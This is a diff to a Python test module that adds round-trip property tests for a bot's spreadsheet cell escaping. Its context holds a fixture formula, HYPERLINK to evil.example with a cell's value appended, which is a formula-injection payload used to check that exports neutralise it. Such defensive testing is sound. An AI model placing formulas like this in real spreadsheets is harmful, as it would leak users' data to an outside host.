@@ -13,6 +13,8 @@ import io
 import json
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from bot.bootstrap import App
 from bot.funding_command import export_csv as funding_export_csv
@@ -20,7 +22,7 @@ from handlers.callbacks import PollAction, PollButton
 from handlers.outbound import Document
 from handlers.payloads import encode
 from handlers.reports.export import export_csv
-from handlers.spreadsheet import cell
+from handlers.spreadsheet import cell, uncell
 from storage.models import FundingApplication, Poll, PollVote, User
 from storage.repositories.reports import ReportScope
 from tests.integration.test_resident_conversation import answers_of, walk_to_exists
@@ -46,6 +48,18 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
 )
 def test_cells(value: object, written: object) -> None:
     assert cell(value) == written
+
+
+@given(st.text().filter(lambda text: not text.startswith("'")))
+def test_a_cell_read_back_is_what_was_written(text: str) -> None:
+    # What the dashboard's CSV quoted comes back as it was stored (the import uses it).
+    written = cell(text)
+    assert isinstance(written, str) and uncell(written) == text
+
+
+def test_an_apostrophe_before_plain_text_is_kept() -> None:
+    assert uncell("'tis the season") == "'tis the season"
+    assert uncell("'-5") == "'-5"  # a number is never quoted, so this one was typed
 
 
 async def test_the_poll_csv_quotes_a_voters_formula_name(app: App) -> None:
